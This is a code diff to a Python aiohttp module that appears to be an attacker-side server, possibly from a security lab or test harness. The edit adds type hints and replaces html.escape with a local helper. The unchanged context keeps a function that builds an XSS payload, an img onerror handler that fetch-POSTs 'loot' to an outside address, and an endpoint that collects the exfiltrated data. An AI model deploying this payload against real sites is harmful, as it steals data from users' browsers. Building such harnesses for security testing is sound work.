@@ -6,12 +6,13 @@
 
 from __future__ import annotations
 
-import html
 import json
 
 from aiohttp import web
 
-LOOT = web.AppKey("LOOT", list)
+from ...escaping import escaped
+
+LOOT: web.AppKey[list[object]] = web.AppKey("LOOT", list)
 TARGET = web.AppKey("TARGET", str)
 
 PAGE = """<!doctype html>
@@ -32,13 +33,13 @@ def message_that_steals(address: str) -> str:
     return f"""<img src=x onerror="fetch('{address}/loot', {{method: 'POST', mode: 'no-cors', body: {loot}}})">"""
 
 
-async def prize(request):
+async def prize(request: web.Request) -> web.Response:
     return web.Response(
-        text=PAGE.format(target=html.escape(request.app[TARGET])), content_type="text/html"
+        text=PAGE.format(target=escaped(request.app[TARGET])), content_type="text/html"
     )
 
 
-async def collect(request):
+async def collect(request: web.Request) -> web.Response:
     request.app[LOOT].append(json.loads(await request.text()))
     return web.Response(status=204)
 
